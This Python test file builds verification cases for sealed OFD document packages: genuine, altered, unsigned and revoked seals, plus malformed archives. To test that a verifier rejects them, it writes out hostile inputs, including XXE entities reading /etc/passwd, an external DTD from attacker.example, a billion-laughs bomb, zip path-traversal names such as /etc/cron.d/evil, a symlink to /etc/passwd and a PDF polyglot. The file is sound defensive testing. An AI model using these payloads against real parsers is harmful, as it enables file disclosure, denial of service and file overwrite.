"""OFD packages (GB/T 33190-2016): sealed, altered, added to, and archives that each reader would unpack differently."""

import stat
from dataclasses import replace
from datetime import datetime
from typing import Final

from seal.data.asn1 import signature_over, to_be_signed
from tests.builders_ofd import (
    FOLDER,
    LIST,
    Entry,
    Files,
    SealKit,
    Signing,
    archive,
    document,
    packed,
    sign,
    unsigned,
    xml,
)
from tests.vectors.verification.cases import Book
from tests.vectors.verification.messages import attributes, message, signer_info, token
from tests.vectors.verification.pades_trust import LATER
from tests.vectors.verification.world import SIGNED, World
from trust.crypto.sm3 import sm3
from trust.profiles import SEAL_MAKER, SEAL_OWNER

__all__ = ["add"]

BETWEEN: Final = datetime.fromisoformat("2028-03-01T00:00:00+00:00")
"""When seals have ended, and the certificates of nobody."""

BROKEN: Final = ("failed/FORMAT_FAILURE", "file.format")
REFERENCES: Final = ("failed/HASH_FAILURE", "ofd.references")
DESCRIPTION: Final = ("failed/HASH_FAILURE", "seal_signature.data_hash")
PAGE: Final = "Doc_0/Pages/Page_0/Content.xml"
OTHER_PAGE: Final = xml("Page", "<o:Content>另一页</o:Content>")
UTF8: Final = 0x0800
ENCIPHERED: Final = 0x0001


def add(book: Book, world: World) -> None:
    """Add the cases."""
    kit = SealKit(maker=world.maker, owner=world.owner)
    sealed = sign(document(), kit.value, Signing(seal=kit.seal))
    add_genuine(book, world, kit, sealed)
    add_altered(book, kit, sealed)
    add_descriptions(book, sealed)
    add_archives(book, sealed)


def add_genuine(book: Book, world: World, kit: SealKit, sealed: Files) -> None:
    """Add packages as they should be, and ones of which nothing can be said."""
    book.add("ofd/sealed", archive(sealed), why="One seal signature lists every file of the package.")
    second = sign(sealed, kit.value, Signing(folder="Doc_0/Signs/Sign_1", id="2", seal=kit.seal))
    book.add(
        "ofd/sealed twice",
        archive(second),
        signatures=("passed", "passed"),
        why="A second seal signature lists the first as well.",
    )

    def stamped(signature_xml: bytes, place: str) -> bytes:
        tbs = to_be_signed(seal=kit.seal, signed_at=SIGNED, data_hash=sm3(signature_xml), property_info=place)
        value = kit.owner.signer.sign(tbs)
        made = token(world.national_clock, value, SIGNED)
        return signature_over(tbs, certificate=kit.owner.certificate.der, signature=value, time_stamp=made)

    proven = archive(sign(document(), stamped, Signing(seal=kit.seal)))
    book.add(
        "ofd/seal ended since, time proven",
        proven,
        why="The token proves that the seal was in force when it was used.",
        moment=BETWEEN,
    )
    book.add(
        "ofd/seal ended since, and the time-stamp's authority too",
        proven,
        "indeterminate/OUT_OF_BOUNDS_NO_POE",
        "certificate.validity",
        why="Nothing proves that the token was there before its authority's certificate ended in 2030.",
        moment=LATER,
        material=("sm2 2032", "p256 2032"),
    )
    hand = world.national_signer

    def detached(signature_xml: bytes, place: str) -> bytes:
        del place
        return message([hand], [signer_info(hand, attributes(hand, sm3(signature_xml)))])

    book.add(
        "ofd/signed with a message",
        archive(sign(document(), detached, Signing(type="Sign"))),
        why="A message of SM2 covers Signature.xml.",
    )
    book.add(
        "ofd/unsigned",
        archive(unsigned()),
        "indeterminate/SIGNED_DATA_NOT_FOUND",
        "",
        signatures=(),
        why="A package without a signature proves nothing.",
    )
    unknown = ("indeterminate/NO_CERTIFICATE_CHAIN_FOUND", "certificate.path")
    book.add(
        "ofd/unknown root",
        archive(sealed),
        *unknown,
        anchors=("p256-root",),
        why="The root of the seal is not trusted.",
    )
    theirs = SealKit(
        maker=world.stranger.issue(SEAL_MAKER, "制章者"), owner=world.stranger.issue(SEAL_OWNER, "某市市场监督管理局")
    )
    strange = sign(document(), theirs.value, Signing(seal=theirs.seal))
    book.add(
        "ofd/sealed by a stranger",
        archive(strange),
        *unknown,
        why="Seal and signature are sound, under a root that nobody trusts.",
    )
    no_list = ("indeterminate/TRY_LATER", "certificate.revocation")
    book.add(
        "ofd/no revocation list",
        archive(sealed),
        *no_list,
        material=("sm2 without lists",),
        why="Nobody says whether owner or maker were revoked.",
    )
    revoked = ("failed/REVOKED", "certificate.revocation")
    book.add(
        "ofd/owner revoked",
        archive(sealed),
        *revoked,
        material=("sm2 owner late",),
        why="The owner was revoked, and no time is proven.",
    )


def add_altered(book: Book, kit: SealKit, sealed: Files) -> None:
    """Add packages that were altered after the sealing."""

    def case(name: str, files: Files, expect: tuple[str, str], why: str) -> None:
        book.add(f"ofd/{name}", archive(files), *expect, why=why)

    case("page altered", {**sealed, PAGE: OTHER_PAGE}, REFERENCES, "The hash of a page is not the one that was signed.")
    case(
        "page taken out",
        {name: one for name, one in sealed.items() if name != PAGE},
        REFERENCES,
        "A page that was signed is missing.",
    )
    described = sealed[f"{FOLDER}/Signature.xml"]
    case(
        "description altered",
        {**sealed, f"{FOLDER}/Signature.xml": described + b"<!-- -->"},
        DESCRIPTION,
        "Signature.xml is not the one that was signed.",
    )
    relisted = sign({**document(), PAGE: OTHER_PAGE}, kit.value, Signing(seal=kit.seal))[f"{FOLDER}/Signature.xml"]
    case(
        "page and its hash altered together",
        {**sealed, PAGE: OTHER_PAGE, f"{FOLDER}/Signature.xml": relisted},
        DESCRIPTION,
        "The hash fits the altered page, and the signature the old hash.",
    )
    unprotected = ("indeterminate/SIGNED_DATA_NOT_FOUND", "ofd.unprotected_files")
    case(
        "file added",
        {**sealed, "Doc_0/Pages/Page_2/Content.xml": OTHER_PAGE},
        unprotected,
        "A page was added that nobody signed.",
    )
    case(
        "picture added",
        {**sealed, "Doc_0/Res/other.png": b"\x89PNG"},
        unprotected,
        "A picture was added that a page may show.",
    )
    left_out = [name for name in document() if name != PAGE]
    case(
        "page never signed",
        sign(document(), kit.value, Signing(seal=kit.seal, covered=left_out)),
        unprotected,
        "The signature leaves a page out.",
    )
    case(
        "nothing signed",
        sign(document(), kit.value, Signing(seal=kit.seal, covered=[])),
        ("failed/FORMAT_FAILURE", "ofd.references"),
        "The signature lists no file at all.",
    )
    other = SealKit(maker=kit.maker, owner=kit.owner, name="某市人民政府")
    case(
        "another seal beside it",
        {**sealed, f"{FOLDER}/Seal.esl": other.seal},
        ("failed/HASH_FAILURE", "ofd.seal_file"),
        "The seal beside the signature, which some readers show, is another than the one in it.",
    )
    case(
        "value for another place",
        sign(document(), kit.value, Signing(seal=kit.seal, property_info="/Doc_1/Signs/Sign_0/Signature.xml")),
        ("failed/SIG_CONSTRAINTS_FAILURE", "ofd.property_info"),
        "The signature says that it was made for another file.",
    )
    case(
        "hashes of MD5",
        sign(document(), kit.value, Signing(seal=kit.seal, method="MD5")),
        ("failed/CRYPTO_CONSTRAINTS_FAILURE", "ofd.references"),
        "The files are tied by MD5.",
    )
    emptied = {**sealed, f"{FOLDER}/SignedValue.dat": b""}
    case(
        "no value",
        emptied,
        ("failed/FORMAT_FAILURE", "seal_signature.format"),
        "The file of the signature value is empty.",
    )
    book.add(
        "ofd/signature taken from the list",
        archive({**sealed, LIST: xml("Signatures")}),
        "indeterminate/SIGNED_DATA_NOT_FOUND",
        "",
        signatures=(),
        why="The list of signatures is empty: no reader finds one, and the package proves nothing.",
    )


def add_descriptions(book: Book, sealed: Files) -> None:
    """Add packages whose XML is made to burn or to read what it must not."""
    laughs = "".join(f'<!ENTITY l{one + 1} "{f"&l{one};" * 10}">' for one in range(9))
    entity = b'<!DOCTYPE OFD [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    head = b'<?xml version="1.0" encoding="UTF-8"?>'

    def with_type(name: str, doctype: bytes) -> bytes:
        return archive({**sealed, name: sealed[name].replace(head, head + doctype)})

    root = "OFD.xml"
    book.add(
        "ofd/external entity",
        with_type(root, entity),
        *BROKEN,
        why="A document type names a file of the reader's machine (XXE); none is read.",
    )
    remote = b'<!DOCTYPE OFD SYSTEM "http://attacker.example/x.dtd">'
    book.add(
        "ofd/external document type",
        with_type(root, remote),
        *BROKEN,
        why="A document type is to be fetched; nothing is.",
    )
    book.add(
        "ofd/entities that multiply",
        with_type(root, f'<!DOCTYPE OFD [<!ENTITY l0 "ha">{laughs}]>'.encode()),
        *BROKEN,
        why="Nine layers of entities would become a thousand million words.",
    )
    book.add(
        "ofd/external entity in the description",
        with_type(f"{FOLDER}/Signature.xml", entity),
        "failed/FORMAT_FAILURE",
        "ofd.format",
        why="The same in Signature.xml: that signature cannot be read.",
    )
    deep = archive({**sealed, root: head + b"<a>" * 5000 + b"</a>" * 5000})
    book.add(
        "ofd/nested without end",
        deep,
        "refused/ofd.limit_exceeded",
        signatures=(),
        why="Elements are nested five thousand deep.",
    )
    outside = sealed[root].replace(b"Doc_0/Document.xml", b"../../etc/passwd")
    book.add(
        "ofd/root outside the package",
        archive({**sealed, root: outside}),
        *BROKEN,
        why="The document is said to lie outside the package.",
    )


def entries_of(files: Files) -> list[Entry]:
    """Return the entries of a package, to be written octet by octet."""
    return [Entry(name=name.encode(), content=content, flags=UTF8) for name, content in files.items()]


def add_archives(book: Book, sealed: Files) -> None:
    """Add archives that programs unpack differently, or somewhere else."""
    entries = entries_of(sealed)
    book.add(
        "ofd/sealed, packed by hand",
        packed(*entries),
        why="The same package, written octet by octet; what follows differs in one thing each.",
    )

    def case(name: str, ofd: bytes, why: str) -> None:
        book.add(f"ofd/{name}", ofd, *BROKEN, why=why)

    first = entries[0]
    names = {
        "entry above the folder": b"../evil.xml",
        "entry from the root": b"/etc/cron.d/evil",
        "entry with a drive": b"C:evil.xml",
        "entry with backslashes": b"Doc_0\\evil.xml",
        "entry that turns its name round": "Doc_0/\u202elmx.gnp".encode(),
        "entry with a null octet": b"Doc_0/a.xml\0.png",
    }
    for name, told in names.items():
        case(
            name,
            packed(*entries, Entry(name=told, content=b"x", flags=UTF8)),
            "The name is no plain path within the package.",
        )
    case("entry twice", packed(*entries, first), "Two entries have one name, and each program takes another.")
    shouted = Entry(name=PAGE.upper().encode(), content=OTHER_PAGE, flags=UTF8)
    case("entry twice but for case", packed(*entries, shouted), "Two names are one on some file systems.")
    case(
        "symbolic link",
        packed(*entries, Entry(name=b"link", content=b"/etc/passwd", flags=UTF8, mode=stat.S_IFLNK | 0o777)),
        "An entry is a link.",
    )
    case("enciphered entry", packed(replace(first, flags=UTF8 | ENCIPHERED), *entries[1:]), "An entry is enciphered.")
    case(
        "two names of one entry",
        packed(replace(first, local={"name": b"Other.xml"}), *entries[1:]),
        "Header and directory give one entry two names.",
    )
    case(
        "two checksums of one entry",
        packed(replace(first, local={"crc": 1}), *entries[1:]),
        "Header and directory give one entry two checksums.",
    )
    case("wrong checksum", packed(replace(first, crc=1), *entries[1:]), "The checksum is not that of the octets.")
    case(
        "octets between entries",
        packed(replace(first, after=b"hidden"), *entries[1:]),
        "Octets lie between two entries that belong to none.",
    )
    case("octets before the archive", b"PK\3\4" + packed(*entries), "Octets lie before the first entry.")
    case("octets after the archive", packed(*entries) + b"hidden", "Octets follow the directory.")
    case(
        "overlapping entries",
        packed(first, Entry(name=b"again.xml", content=first.content, flags=UTF8, again=True), *entries[1:]),
        "Two entries are the same octets.",
    )
    case(
        "unknown compression",
        packed(replace(first, method=12, raw=b"BZh9"), *entries[1:]),
        "An entry is packed in a way that OFD does not have.",
    )
    case(
        "more entries than there are",
        packed(*entries, count=len(entries) + 1),
        "The directory tells one entry more than it has.",
    )
    case("cut off", packed(*entries)[:-30], "The end is missing.")
    hidden = packed(replace(first, local={"extra": b"\xfe\xca\x19\0%PDF-1.7 another document"}), *entries[1:])
    book.add(
        "ofd/a PDF in the head of an entry",
        hidden,
        "failed/FORMAT_FAILURE",
        "file.format",
        kind="unknown",
        why="Readers of PDF would find another document in it than readers of OFD.",
    )
